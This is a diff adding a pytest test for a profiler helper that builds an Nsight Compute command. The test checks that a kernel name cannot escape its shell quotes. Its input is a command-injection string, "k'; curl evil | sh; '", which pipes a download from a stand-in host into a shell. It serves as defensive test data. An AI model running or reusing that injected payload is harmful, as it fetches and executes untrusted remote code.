@@ -1,5 +1,8 @@
 """The doctor says what is missing, what that disables, and the command that mends it."""
 
+import re
+import shlex
+
 import pytest
 from profile_builder import counted, cpu, function, gpu, launch, sampled
 
@@ -40,6 +43,13 @@ def test_a_report_without_samples_names_the_command_for_its_hot_kernels():
 def test_the_command_counts_the_launches_of_all_kernels_together():
     found = said(gpu(*(launch(name, 3) for name in ("a", "b", "c"))), "no warp samples")
     assert found and found.remedy == "ncu --set full --import-source yes -k 'regex:^(a|b|c)$' -c 9 -o report ./program"
+
+
+def test_a_name_cannot_leave_its_quotes_in_the_command():
+    found = said(gpu(launch("k'; curl evil | sh; '", 3)), "no warp samples")
+    words = shlex.split(found.remedy if found else "")
+    assert words[words.index("-k") + 2] == "-c"
+    assert re.search(words[words.index("-k") + 1].removeprefix("regex:"), "k'; curl evil | sh; '")
 
 
 def test_samples_on_code_without_lines_are_counted():
